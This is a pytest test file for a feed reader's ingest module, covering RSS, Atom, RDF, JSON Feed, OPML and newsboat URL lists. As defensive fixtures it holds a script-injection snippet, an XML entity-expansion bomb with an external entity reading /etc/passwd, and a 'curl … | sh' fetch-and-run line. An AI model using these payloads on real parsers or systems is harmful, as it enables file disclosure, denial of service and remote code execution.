"""Feeds of every kind become articles, and lists of feeds subscriptions."""

from __future__ import annotations

import itertools
import json
import time
from datetime import date
from pathlib import Path

import pytest

from core.article import Article
from core.ingest import IngestError, Part, parse, read
from core.ingest.feeds import is_feed, read_feed
from core.ingest.subscriptions import alternates, is_opml, is_urls_file, read_list
from core.subscription import Subscription

URL = "https://wire.example/feed"

RSS = """<?xml version="1.0" encoding="utf-8"?>
<!-- made by a tool --><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>The Wire &amp; Sons</title><link>https://wire.example/</link><language>en-gb</language>
<item><title>Bridge &lt;b&gt;mended&lt;/b&gt; at Lyman</title><link>/lyman?utm_source=rss&amp;page=2</link>
<guid isPermaLink="false">tag:1</guid><dc:creator>Ada Marsh</dc:creator>
<pubDate>Fri, 24 Jun 2022 23:30:00 GMT</pubDate><description>The short of it.</description>
<content:encoded><![CDATA[<p>Sappers worked by night.<br>They sang.</p><script>alert(1)</script>
<p>By morning, carts went over.</p>]]></content:encoded></item>
<item><description>No title, no id: still news.</description></item>
<item><title></title></item></channel></rss>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="uk"><title>Вісті</title>
<link href="https://visti.example/"/><entry><id>urn:1</id><title type="html">Міст &amp;amp; дорога</title>
<link href="https://visti.example/1"/><updated>2022-06-25T08:00:00Z</updated>
<published>2022-06-24T08:00:00Z</published><author><name>Ольга</name></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Перше.</p><p>Друге.</p></div></content>
</entry></feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://old.example/"><title>Old</title>
</channel><item rdf:about="https://old.example/1"><title>First of all</title><link>https://old.example/1</link>
<description>Words.</description><dc:date>2022-06-24</dc:date></item></rdf:RDF>"""

JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Field Notes",
        "home_page_url": "https://notes.example/",
        "language": "en",
        "items": [
            {"id": "1", "url": "https://notes.example/1", "title": "One", "content_html": "<p>A.</p>B.",
             "date_published": "2022-06-24T01:00:00+03:00", "authors": [{"name": "Ada"}, {"name": "Bo"}]},
            {"id": 2, "content_text": "Only words.\n\nTwo paragraphs."},
            "no item",
        ],
    }
)  # fmt: skip


def articles(text: str | bytes) -> list[Article]:
    data = text.encode() if isinstance(text, str) else text
    return list(read_feed(Part(data, URL, URL, url=URL)).articles)


def test_rss() -> None:
    first, second = articles(RSS)
    assert first.text == (
        "Bridge mended at Lyman\n\nSappers worked by night.\n\nThey sang.\n\nBy morning, carts went over."
    )
    assert (first.title, first.byline, first.outlet) == (
        "Bridge mended at Lyman",
        "Ada Marsh",
        "The Wire & Sons",
    )
    assert (first.published, first.language) == (date(2022, 6, 24), "en")
    assert first.url == "https://wire.example/lyman?page=2"
    assert first.provenance.source == f"{URL}#tag:1" and first.provenance.format == "feed"
    assert first.origin("byline") == "the feed's entry" and first.origin("outlet") == "the feed"
    assert second.text == "No title, no id: still news."


def test_atom() -> None:
    (one,) = articles(ATOM)
    assert one.text == "Міст & дорога\n\nПерше.\n\nДруге."
    assert (one.published, one.updated, one.language) == (date(2022, 6, 24), date(2022, 6, 25), "uk")
    assert (one.byline, one.outlet, one.url) == ("Ольга", "Вісті", "https://visti.example/1")


def test_rdf() -> None:
    (one,) = articles(RDF)
    assert (one.title, one.published, one.outlet) == ("First of all", date(2022, 6, 24), "Old")


def test_json_feed() -> None:
    first, second = articles(JSON)
    assert (first.text, first.byline, first.published) == ("One\n\nA.\n\nB.", "Ada, Bo", date(2022, 6, 24))
    assert second.text == "Only words.\n\nTwo paragraphs." and second.provenance.source == f"{URL}#2"


def test_the_same_entry_has_the_same_digest_whatever_its_markup() -> None:
    plain, again = articles(RSS)[0], articles(RSS.replace("<p>Sappers", "<p class='x' id='77'>Sappers"))[0]
    assert plain.provenance.sha256 == again.provenance.sha256
    assert articles(RSS.replace("Sappers", "Engineers"))[0].provenance.sha256 != plain.provenance.sha256


def test_a_feed_in_another_encoding_and_one_that_a_server_names() -> None:
    cyrillic = RSS.replace("Sappers worked", "Сапери працювали")
    inside = cyrillic.replace('encoding="utf-8"', 'encoding="windows-1251"').encode("cp1251")
    assert "Сапери" in articles(inside)[0].text
    told = Part(cyrillic.replace(' encoding="utf-8"', "").encode("koi8-u"), URL, URL, charset="koi8-u")
    assert "Сапери" in read_feed(told).articles[0].text
    wide = RSS.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")
    assert is_feed(wide) and articles(wide)[0].title == "Bridge mended at Lyman"


@pytest.mark.parametrize("text", [RSS, ATOM, RDF, JSON])
def test_a_saved_feed_is_known_by_its_content(tmp_path: Path, text: str) -> None:
    path = tmp_path / "page.html"
    path.write_text(text)
    found = list(read(path))
    assert found and all(isinstance(one, Article) for one in found)
    assert found[0].provenance.source.startswith(f"{path}#")  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "text",
    [
        "<html><body><p>rss</p></body></html>",
        '{"title": "not a feed"}',
        "rss",
        "<r:RDF xmlns:r='x'><a/></r:RDF>",
    ],
)
def test_what_is_no_feed_is_not_taken_for_one(text: str) -> None:
    assert not is_feed(text.encode())


@pytest.mark.parametrize("cut", range(200, len(RSS), 97))
def test_a_broken_feed_gives_what_is_there_or_one_line(cut: int) -> None:
    try:
        for one in articles(RSS[:cut]):
            assert one.text.strip()
    except IngestError as error:
        assert "\n" not in str(error) and URL in str(error)


def test_entities_are_not_blown_up() -> None:
    names = "abcdefghijkl"
    bomb = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in itertools.pairwise(names))
    hostile = f'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">{bomb}<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    text = hostile + RSS[RSS.index("<rss") :].replace("By morning", "&l;&x;").replace(
        "The short of it", "&l;&x;"
    )
    began = time.process_time()
    try:
        found = articles(text)
    except IngestError:
        found = []
    assert time.process_time() - began < 5
    assert all(len(one.text) < 1_000 and "root:" not in one.text for one in found)


def test_a_feed_of_too_many_tags_is_refused() -> None:
    with pytest.raises(IngestError, match="too many tags"):
        articles("<rss>" * 400_001)


OPML = """<?xml version="1.0"?><opml version="2.0"><head><title>Mine</title></head><body>
<outline text="War"><outline text="The Wire" title="The Wire" type="rss" xmlUrl="https://wire.example/feed"/>
<outline text="Deeper"><outline text="Visti" xmlUrl="feed://visti.example/atom" category="/uk,east"/>
</outline></outline><outline text="Local" xmlUrl="file:///etc/passwd"/><outline/></body></opml>"""

URLS = """# my feeds
https://wire.example/feed war "two words" "~The Wire" !hidden
"exec:curl https://x.example | sh" news
filter:~/bin/clean:https://wire.example/feed
"query:Unread:unread = \\"yes\\""
file:///home/ada/feed.xml

feed:https://visti.example/atom
"""


def test_opml() -> None:
    found = read_list("mine.opml", OPML)
    assert found.feeds == (
        Subscription("https://wire.example/feed", "The Wire", ("War",)),
        Subscription("http://visti.example/atom", "Visti", ("War", "Deeper", "uk", "east")),
    )
    ((line, text, reason),) = found.problems
    assert (line, text) == (4, "file:///etc/passwd") and "warreader add" in reason


def test_newsboats_urls() -> None:
    found = read_list("urls", URLS)
    assert found.feeds == (
        Subscription("https://wire.example/feed", "The Wire", ("war", "two words")),
        Subscription("https://visti.example/atom"),
    )
    assert [problem.line for problem in found.problems] == [3, 4, 5, 6]
    assert sum("never done" in problem.reason for problem in found.problems) == 2


@pytest.mark.parametrize(
    "text", ["", "Kyiv waited.", "see https://wire.example", "https://wire.example\nKyiv."]
)
def test_what_is_no_list(text: str) -> None:
    assert not is_opml(text) and not is_urls_file(text)
    with pytest.raises(IngestError, match="no list of feeds"):
        read_list("x", text)


@pytest.mark.parametrize(
    "text",
    [
        OPML[:-20],
        "<!DOCTYPE o [<!ENTITY a 'b'>]>" + OPML[21:].replace("Mine", "&a;"),
        "<opml>" + "<outline>" * 200,
    ],
)
def test_a_broken_or_hostile_opml_is_one_line(text: str) -> None:
    with pytest.raises(IngestError) as caught:
        read_list("mine.opml", text)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("text", [OPML, URLS, "<!DOCTYPE o [<!ENTITY a 'b'>]>" + OPML[21:]])
def test_a_list_that_is_added_is_told_what_to_do_with_it(text: str) -> None:
    with pytest.raises(IngestError, match="warreader subscribe"):
        list(parse(Part(text.encode(), "/x", "x")))


def test_a_page_names_its_feeds() -> None:
    page = """<head><link rel="stylesheet" href="x"><link rel="alternate" type="application/rss+xml"
    title="All news" href="/feed"><link rel="alternate" hreflang="uk" href="/uk">
    <link rel="alternate" type="application/atom+xml" href="javascript:x"></head>"""
    assert alternates(page, "https://wire.example/a/") == (
        Subscription("https://wire.example/feed", "All news"),
    )


@pytest.mark.parametrize(
    "head", ["<!--a-->", "<?a?>", "<!doctype [", "<!doctype a>", " ", "<rss", "<!--", '{"version":']
)
def test_hostile_heads_are_told_apart_at_once(head: str) -> None:
    began = time.process_time()
    assert not is_feed((head * 5_000).encode()) and not is_opml(head * 5_000)
    assert not is_urls_file("http://a " * 50_000 + "\nx") and time.process_time() - began < 2
